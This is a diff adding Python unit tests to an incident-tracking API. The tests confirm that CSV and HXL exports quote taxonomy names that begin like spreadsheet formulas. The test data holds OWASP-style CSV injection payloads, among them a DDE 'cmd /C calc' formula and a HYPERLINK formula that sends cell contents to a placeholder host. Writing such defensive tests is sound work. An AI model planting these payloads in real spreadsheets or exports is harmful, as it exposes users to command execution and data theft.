@@ -7,12 +7,21 @@ anyone, or any key, can get, each checked where a client sees it.
 - A 401 challenges with `WWW-Authenticate: Bearer`, as described.
 - Analysts count verified incidents only, in trends as in reports: any
   other `status` is 403 for them, as /v1/reports/poc has always said.
+- CSV and HXL downloads (trends, report tables) cannot carry a formula: a
+  text cell starting with = + - @, a tab or a carriage return (taxonomy
+  names are a deployment's own text) is quoted and starts with ', while
+  numbers, negative changes included, stay numbers.
 """
 
+import csv
+import io
+import json
+import os
+import tempfile
 import unittest
 
 from faults_support import database_refusing, schema_ahead
-from harness import ROLES, ServerTestCase, valid_incident
+from harness import ROLES, TAXONOMY_FILE, ServerTestCase, valid_incident
 
 READY_MESSAGES = ('database unreachable; retry shortly',
                   'database schema is not current')
@@ -124,6 +133,107 @@ class CountedStatusTest(ServerTestCase):
     def test_bad_status_is_400_before_403(self):
         r = self.srv.request('GET', '/v1/trends?status=bogus', key='analyst')
         self.assertError(r, 400, 'invalid_field', 'status')
+
+
+# Taxonomy names a spreadsheet would run (OWASP's CSV injection examples).
+FORMULAS = {
+    ('party_groups', 'age'): '@SUM(1+1)*cmd|" /C calc"!A0',
+    ('parties', 'taliban'): '=HYPERLINK("http://example.invalid/?x="&A1,"x")',
+    ('tactics', 'ied_suicide'): '+1+cmd|" /C calc"!A0',
+    ('weapons', 'heavy_explosive'): '-2+3',
+    ('regions', 'central'): '\t=1+2',
+    ('admin_areas', 'AF01'): '\r=1+2;=3',
+}
+FORMULA_START = ('=', '+', '-', '@', '\t', '\r')
+
+
+class CsvFormulaTest(ServerTestCase):
+    """Taxonomy names that are formulas, in every CSV and HXL download."""
+
+    FROM, TO = '2025-01-01', '2025-06-30'
+
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        with open(TAXONOMY_FILE, encoding='utf-8') as f:
+            tax = json.load(f)
+        for (part, code), name in FORMULAS.items():
+            for item in tax[part]:
+                if item.get('code', item.get('pcode')) == code:
+                    item['name'] = name
+        fd, path = tempfile.mkstemp(suffix='.json', prefix='civcas-tax-')
+        try:
+            with os.fdopen(fd, 'w', encoding='utf-8') as f:
+                json.dump(tax, f)
+            proc = cls.srv.civcasd('taxonomy', 'load', path)
+            assert proc.returncode == 0, proc.stderr
+        finally:
+            os.unlink(path)
+        # This year's casualties fall short of last year's: the report's
+        # change_pct is negative.
+        for day, killed in (('2025-03-01', 2), ('2024-03-01', 9)):
+            doc = valid_incident(occurred_on=day, casualties=[
+                {'outcome': 'killed', 'sex': 'male', 'age_group': 'adult',
+                 'count': killed}])
+            inc = cls.srv.create(doc)
+            assert cls.srv.set_status(inc['id'], 'verified').status == 200
+
+    def rows(self, path, hxl):
+        r = self.srv.request('GET', path, key='analyst')
+        self.assertStatus(r, 200, path)
+        self.assertIn('text/csv', r.headers.get('Content-Type'))
+        rows = list(csv.reader(io.StringIO(r.body.decode('utf-8'),
+                                           newline='')))
+        header, body = rows[0], rows[2 if hxl else 1:]
+        self.assertTrue(body, path)
+        return header, body
+
+    def assertNoFormula(self, path, header, body, numeric):
+        seen = set()
+        for row in body:
+            for name, cell in zip(header, row):
+                if name in numeric:
+                    float(cell or 0)          # a number, as it was
+                    continue
+                self.assertFalse(cell.startswith(FORMULA_START),
+                                 '%s: %s = %r' % (path, name, cell))
+                if cell.startswith("'"):
+                    seen.add(cell[1:])
+        self.assertTrue(seen, '%s: no formula name came through' % path)
+        self.assertLessEqual(seen, set(FORMULAS.values()), path)
+        return seen
+
+    def test_trends(self):
+        measures = ('killed', 'injured', 'casualties', 'incidents')
+        seen = set()
+        for by in ('party,tactic,admin1', 'party_group,weapon,region'):
+            for fmt in ('csv', 'hxl'):
+                path = ('/v1/trends?from=%s&to=%s&period=quarter&by=%s'
+                        '&format=%s' % (self.FROM, self.TO, by, fmt))
+                header, body = self.rows(path, fmt == 'hxl')
+                seen |= self.assertNoFormula(path, header, body, measures)
+        self.assertEqual(seen, set(FORMULAS.values()))
+
+    def test_report_tables(self):
+        numeric = ('killed', 'injured', 'casualties', 'share_pct',
+                   'change_pct', 'previous_killed', 'previous_injured',
+                   'previous_casualties')
+        seen = set()
+        for table in ('by_party', 'by_tactic', 'by_region', 'by_province'):
+            for fmt in ('csv', 'hxl'):
+                path = ('/v1/reports/poc?from=%s&to=%s&format=%s&table=%s'
+                        % (self.FROM, self.TO, fmt, table))
+                header, body = self.rows(path, fmt == 'hxl')
+                seen |= self.assertNoFormula(path, header, body, numeric)
+                if table == 'by_party' and fmt == 'csv':
+                    changes = [float(row[header.index('change_pct')])
+                               for row in body]
+                    self.assertIn(-77.8, changes, body)
+        self.assertEqual(seen, {FORMULAS[('party_groups', 'age')],
+                                FORMULAS[('parties', 'taliban')],
+                                FORMULAS[('tactics', 'ied_suicide')],
+                                FORMULAS[('regions', 'central')],
+                                FORMULAS[('admin_areas', 'AF01')]})
 
 
 if __name__ == '__main__':
